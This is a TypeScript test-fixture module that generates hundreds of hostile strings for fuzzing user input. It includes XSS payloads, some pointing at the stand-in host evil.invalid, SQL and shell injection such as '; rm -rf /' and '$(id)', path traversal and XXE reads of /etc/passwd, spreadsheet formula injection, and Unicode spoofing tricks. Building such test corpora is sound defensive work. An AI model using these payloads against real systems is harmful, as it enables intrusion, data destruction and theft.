/** What sets the mark, and calls for attention where marks are forgotten. */
const RUN = 'window.__ran=1,alert(1)';
const OUT = 'https://evil.invalid/x';

/** Ways to run a script, or to fetch from elsewhere, in HTML that is taken for HTML. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<script src=${OUT}></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${OUT}.png">`,
  `<img/src="x"/onerror="${RUN}"/>`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.__ran=1</script>"></object>`,
  `<embed src="${OUT}">`,
  `<link rel=stylesheet href=${OUT}.css>`,
  `<style>@import '${OUT}.css';*{display:none}</style>`,
  `<base href="${OUT}">`,
  `<meta http-equiv=refresh content="0;url=${OUT}">`,
  `<form action="${OUT}"><button autofocus>go</button></form>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="java\tscript:${RUN}">click</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x style="animation:a" onanimationstart=${RUN}>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`,
];
/** What they are put into, to break out of whatever they are put into. */
const BREAKOUTS: ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `">${inner}`,
  (inner) => `'>${inner}`,
  (inner) => `</title></textarea></style></script>${inner}`,
  (inner) => `--!>${inner}<!--`,
  (inner) => `\`}${inner}\${`,
  (inner) => inner.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (inner) => inner.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (inner) => inner.replaceAll('<', '＜').replaceAll('>', '＞'),
  (inner) => [...inner].join('\u200b'),
];
/** Taken for a template, a format, markdown, a path, a query or a formula by what is not meant to. */
const SYNTAX = [
  ...[
    '{{constructor.constructor("window.__ran=1")()}}',
    '${window.__ran=1}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{{7*7}}',
    '$t(app.title)',
  ],
  ...[
    '{{name}}',
    '{{- evil}}',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '%s%s%n%x',
    '%00',
    '{0}',
    '\\n\\r\\t',
  ],
  ...[
    '[a](javascript:window.__ran=1)',
    `![a](${OUT}.png)`,
    '<javascript:alert(1)>',
    '# heading',
    '> quote',
    '```js\nalert(1)\n```',
  ],
  ...[
    'javascript:window.__ran=1',
    'JaVaScRiPt:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
  ],
  ...[
    '//evil.invalid',
    '\\\\evil.invalid\\share',
    '../../../../etc/passwd',
    '..%2f..%2fetc%2fpasswd',
    'file:///etc/passwd',
  ],
  ...[
    "' OR 1=1 --",
    '"; DROP TABLE stories; --',
    '1;SELECT pg_sleep(9)',
    '$$;',
    "admin'--",
    '`id`',
    '$(id)',
    '| id',
    '; rm -rf /',
  ],
  ...['=1+1', "=cmd|' /C calc'!A0", '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("https://evil.invalid")'],
  ...[
    'null',
    'undefined',
    'NaN',
    'true',
    'Infinity',
    '-0',
    '1e309',
    '0x1',
    '[]',
    '{}',
    '""',
    "''",
    '\\',
    '/',
    '<',
    '>',
    '&',
    '&amp;',
    '&#0;',
  ],
];
/** Characters that turn, hide, pile up or stand in for others. */
const CHARACTERS = [
  ...['\u202e', '\u2066', '\u2067', '\u202b', '\u200f', '\u061c'].map((mark) => `before ${mark}gpj.exe after`),
  ...['\u200b', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u3164', '\u115f'].map((blank) => blank.repeat(50)),
  ...['\u0301', '\u0489', '\u20dd', '\u0e47', '\u1ab2', '\u033f'].map((mark) => `Z${mark.repeat(120)}algo`),
  ...['\u0000', '\u0007', '\u001b[31mred\u001b[0m', '\u0008\u0008', '\u0085', '\u2028', '\u2029', '\u000b'].map(
    (c) => `a${c}b`,
  ),
  ...['\ud800', '\udfff', 'a\ud83db', '\ufffe', '\uffff', '\u{10ffff}', '\ue000', '\u{e0041}\u{e0042}'],
  ...['аdmin', 'раураl', 'ⓐⓓⓜⓘⓝ', '𝐚𝐝𝐦𝐢𝐧', 'admın', 'ＡＤＭＩＮ', 'ﬃ', 'ẛ̣', 'İı', 'ß', '‮nimda'],
  ...['مرحبا بالعالم', 'שלום עולם', 'مرحبا <b>world</b> (1) שלום', '你好，世界', 'สวัสดี', 'வணக்கம்', '𒐫𒈙⸻꧅﷽'],
  ...['👩‍👩‍👧‍👦', '🏳️‍🌈', '👍🏿', '🇫🇷', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '1️⃣'].map((emoji) => emoji.repeat(60)),
  ...['﷽', '꧅', '⸻', '𒐫'].map((wide) => wide.repeat(80)),
];
const FLOODS = [
  ...['a', 'W', '_', '.', '-', '<', '"', '漢', '\u00a0', '🙂'].map((one) => one.repeat(5_000)),
  ...[
    `https://example.invalid/${'a'.repeat(3_000)}`,
    '@'.repeat(3_000),
    '#tag'.repeat(1_000),
    'a\n'.repeat(2_000),
    '\t'.repeat(3_000),
  ],
  ...[
    '('.repeat(5_000),
    '<b>'.repeat(2_000),
    '<div>'.repeat(2_000),
    '{{'.repeat(2_000),
    '&lt;'.repeat(1_500),
    '"\'`'.repeat(1_000),
  ],
];

/** At least 500 different texts that somebody might post to do harm. Made anew each time, always the same. */
export function hostileStrings(): string[] {
  const markup = MARKUP.flatMap((one) => BREAKOUTS.map((breakOut) => breakOut(one)));
  const hidden = CHARACTERS.slice(0, 12).flatMap((one) => MARKUP.slice(0, 4).map((markup_) => `${one}${markup_}`));
  return [...new Set([...markup, ...SYNTAX, ...CHARACTERS, ...FLOODS, ...hidden])];
}
